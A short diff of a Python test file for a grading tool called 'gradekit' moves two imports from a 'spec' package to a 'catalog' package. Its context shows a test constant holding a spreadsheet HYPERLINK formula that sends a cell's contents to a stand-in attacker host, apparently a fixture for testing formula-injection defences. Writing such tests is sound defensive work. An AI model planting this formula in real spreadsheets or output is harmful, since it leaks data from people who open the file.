@@ -21,8 +21,8 @@ from click.testing import CliRunner
 from gradekit.cli.commands import main
 from gradekit.core.plain import solution_dict
 from gradekit.course.batch import discover, BatchOptions, grade_folder, write_outputs
-from gradekit.spec.catalog import load_catalog
-from gradekit.spec.variants import variant
+from gradekit.catalog.catalog import load_catalog
+from gradekit.catalog.variants import variant
 
 CAT = load_catalog()
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"click")'
